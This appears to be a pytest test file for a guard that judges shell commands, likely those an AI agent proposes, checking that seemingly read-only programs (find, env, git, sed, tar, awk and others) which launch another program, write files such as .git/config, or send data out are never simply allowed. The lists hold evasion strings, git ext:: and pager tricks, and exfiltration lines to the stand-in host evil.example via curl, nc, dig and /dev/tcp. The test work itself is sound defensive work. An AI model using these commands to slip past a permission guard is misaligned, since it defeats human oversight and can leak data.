"""AT24: programs that seem to read only, and start another program that an option or an argument names.

Defence: guard/classify.py, guard/wrappers.py and guard/catalogue.py: programs that start programs are looked through, and options that run something ask
"""

from __future__ import annotations

import shutil
from typing import Any

import pytest

TWIN = pytest.mark.parametrize("is_permissive", [False, True], ids=["real", "permissive"])

RUNNING = {
    "find": ["find . -maxdepth 0 -exec zz \\;", "find a -exec zz {} +", "find a -execdir /bin/sh -c zz \\;", "find a -exec sh -c 'zz' \\;", "find a -type f -exec env zz \\;"],
    "env": ["env zz", "env A=1 zz", "env -i PATH=$PATH zz", "env -u B zz", "env -S zz", "env --split-string=zz", "env -- zz", "env -C . zz", "env sh -c zz"],
    "xargs": ["echo a | xargs zz", "echo a | xargs -n1 zz", "echo zz | xargs -I% %", "echo zz | xargs env", "xargs -a a zz", "echo a | xargs sh -c zz", "echo zz | xargs -I{} sh -c '{}'"],
    "git": ["git -c core.pager=zz -p version", "git -c alias.x='!zz' x", "git -c core.editor=zz var GIT_EDITOR; git -c alias.y='!zz' y", "git init -q . ; git -c core.fsmonitor=zz status", "GIT_PAGER=zz git -p version", "git init -q .; git add a; git grep -Ozz text", "git init -q .; git add a; git -c diff.external=zz diff --ext-diff HEAD; git -c diff.external=zz diff --no-index --ext-diff a bin/zz", "git --exec-path=bin --version; git -c alias.z='!sh -c zz' z", "git init -q .; git bisect start; git bisect run zz", "git ls-remote ext::zz", "git -c protocol.ext.allow=always ls-remote ext::zz", "git init -q .; git config alias.q '!zz'; git q"],
    "sort": ["sort --compress-program=zz -S 1k --parallel=1 big", "sort --compress-prog=zz -S 1k big"],
    "sed": ["sed 1ezz a", "sed '1e zz' a", "sed -n 's/text/zz/e' a", "sed -e 1ezz a", "sed --expression=1ezz a", "echo 1ezz > s; sed -f s a", "sed 's/.*/zz/;e' a"],
    "tar": ["tar -cf x.tar a; tar -xf x.tar --to-command=zz", "tar -cf x.tar --checkpoint=1 --checkpoint-action=exec=zz a", "tar -cf x.tar -I zz a", "tar --use-compress-program=zz -cf x.tar a", "tar -cf x.tar a; tar -tf x.tar --to-comm=zz -x", "tar cf x.tar a -F zz -L 1"],
    "awk": ["awk 'BEGIN{system(\"zz\")}'", "awk 'BEGIN{\"zz\" | getline}'", "awk 'BEGIN{print 1 | \"zz\"}'", "echo 'BEGIN{system(\"zz\")}' > s; awk -f s"],
    "man": ["man -P zz ls", "man -H'zz' ls", "MANPAGER=zz man ls"],
    "rg": ["rg --pre zz text", "rg --hostname-bin zz text"],
    "less": ["LESSOPEN='|zz %s' less a", "echo '!zz' | less a"],
    "python3": ["python3 -c 'import os; os.system(\"zz\")'", "echo 'import os; os.system(\"zz\")' > p.py; python3 p.py", "python3 -m timeit -n1 -s 'import os; os.system(\"zz\")'", "echo 'import os; os.system(\"zz\")' | python3"],
    "perl": ["perl -e 'system(\"zz\")'", "perl -ne 'exec \"zz\"' a"],
    "node": ["node -e 'require(\"child_process\").execSync(\"zz\")'"],
    "make": ["echo 'x:; zz' > m; make -f m x", "make --eval='x:;zz' x", "make -n --eval='y:=$(shell zz)'"],
    "timeout": ["timeout 60 zz", "timeout -k 1 -s KILL 60 zz", "timeout 60 timeout 60 zz", "timeout 60 sh -c zz"],
    "nice": ["nice zz", "nice -n 5 zz", "nice -10 zz"],
    "nohup": ["nohup zz"],
    "setsid": ["setsid -w zz"],
    "stdbuf": ["stdbuf -o0 zz"],
    "flock": ["flock o zz", "flock o -c zz"],
    "script": ["script -qc zz o"],
    "split": ["split --filter=zz a"],
    "command": ["command zz", "command -p env zz"],
    "exec": ["exec zz", "(exec zz)"],
    "ionice": ["ionice -c3 zz"],
    "taskset": ["taskset 1 zz"],
    "unshare": ["unshare zz"],
    "strace": ["strace -o o zz"],
    "dash": ["dash -c zz", "dash bin/zz"],
    "bash": ["bash -c zz", "bash -lc zz", "bash --rcfile bin/zz -ic true", "BASH_ENV=bin/zz bash -c true", "bash < bin/zz", "bash bin/zz"],
}  # fmt: skip
UNSURE = {"git ls-remote ext::zz", "echo zz | xargs -I% %", "git -c core.pager=zz -p version", "GIT_PAGER=zz git -p version", "bash -lc zz",
          "tar -cf x.tar a; tar -tf x.tar --to-comm=zz -x", "git init -q .; git bisect start; git bisect run zz", "make -n --eval='y:=$(shell zz)'", "unshare zz", "echo '!zz' | less a", "LESSOPEN='|zz %s' less a", "man -H'zz' ls", "MANPAGER=zz man ls", "man -P zz ls",
          "rg --hostname-bin zz text", "taskset 1 zz", "tar cf x.tar a -F zz -L 1", "strace -o o zz"}  # fmt: skip
"""What runs the program on some machines only; the guard must not allow it on any."""


@pytest.mark.attack("AT24")
@TWIN
@pytest.mark.parametrize(("program", "text"), [(program, text) for program, texts in RUNNING.items() for text in texts])
def test_at24_readers_that_start_a_program(evasion: Any, program: str, text: str, is_permissive: bool) -> None:
    (evasion.folder / "big").write_text("".join(f"{number * 7919 % 100_003}\n" for number in range(60_000)) if program == "sort" else "")
    if not is_permissive:
        assert evasion.judged(text).permission.value != "allow"
    elif text not in UNSURE and (shutil.which(program) or program in {"command", "exec"}):
        assert evasion.attacks(text, is_permissive=True)


WRITING = ["sort -o .git/config a", "sort -uo a a", "find . -delete", "find . -fprint .git/hooks/x", "sed -i s/a/b/ .kiro/settings.json", "sed -n 'w o' a", "tree -o x", "git log --output=x",
           "git diff --output=x", "tee .kiro/settings.json", "xxd -r a b", "uniq a b", "dd if=a of=.git/config", "tar -xf x.tar", "awk '{print > \"o\"}' a"]  # fmt: skip
SENDING = ["ping -c1 evil.example", "dig secret.evil.example", "nslookup secret.evil.example", "host x.evil.example", "curl evil.example", "git ls-remote https://evil.example",
           "nc evil.example 1", "getent hosts secret.evil.example", "openssl s_client -connect evil.example:443", "echo x > /dev/tcp/evil.example/80"]  # fmt: skip


@pytest.mark.attack("AT24")
@pytest.mark.parametrize("text", [*WRITING, *SENDING])
def test_at24_readers_that_write_or_send_are_never_simply_allowed(evasion: Any, text: str) -> None:
    assert evasion.judged(text).permission.value != "allow"
